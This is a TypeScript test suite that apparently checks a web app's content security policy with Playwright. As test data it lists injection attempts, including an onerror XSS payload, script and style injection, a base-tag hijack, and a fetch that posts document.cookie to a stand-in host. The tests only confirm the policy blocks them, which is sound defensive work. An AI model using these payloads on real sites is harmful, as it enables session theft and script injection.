import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import { startMainstay } from './start-mainstay.ts';
import type { Mainstay } from './start-mainstay.ts';

describe('the content security policy', () => {
  let mainstay: Mainstay | undefined;
  const visit = <T>(use: (page: Page) => Promise<T>): Promise<T> => {
    assert.ok(mainstay);
    return mainstay.visit(use);
  };
  before(async () => {
    mainstay = await startMainstay();
  });
  after(async () => mainstay?.stop());

  test('leaves the pages their look', async () => {
    await visit(async (page) => {
      await page.goto('/');
      await page.getByRole('heading', { name: 'Create your workspace' }).waitFor();
      // Of a style element that only the nonce lets in.
      const font = "getComputedStyle(document.documentElement).getPropertyValue('--mantine-font-family').trim()";
      assert.notEqual(await page.evaluate<string>(font), '');
      await page.goto('/api');
      assert.equal(await page.evaluate<string>('getComputedStyle(document.body).display'), 'grid');
    });
  });

  const attempts = {
    'a script in the page': `document.body.append(Object.assign(document.createElement('script'), { text: 'window.taken = 1' }))`,
    'markup made of text': `document.body.innerHTML = '<img src=x onerror="window.taken = 1">'`,
    'a style sheet without the nonce': `document.head.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }' }))`,
    'a frame of another site': `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://elsewhere.example/' }))`,
    'a picture of another site': `Object.assign(new Image(), { src: 'https://elsewhere.example/a.png?what' })`,
    'a message to another site': `fetch('https://elsewhere.example/', { method: 'POST', body: document.cookie }).catch(() => null)`,
    'another base of all links': `document.head.append(Object.assign(document.createElement('base'), { href: 'https://elsewhere.example/' }))`,
  };
  for (const [what, attempt] of Object.entries(attempts)) {
    test(`refuses ${what}`, async () => {
      const journey = visit(async (page) => {
        await page.goto('/');
        await page.getByRole('heading', { name: 'Create your workspace' }).waitFor();
        // In a task of its own, so that the page does it and not the debugger, to whom more is allowed.
        await page.evaluate(`setTimeout(() => { ${attempt} })`);
        await page.waitForTimeout(300);
        assert.equal(await page.evaluate<number | undefined>('window.taken'), undefined);
        assert.notEqual(await page.evaluate<string>('getComputedStyle(document.body).display'), 'none');
      });
      await assert.rejects(journey, /refused by the policy/);
    });
  }
});
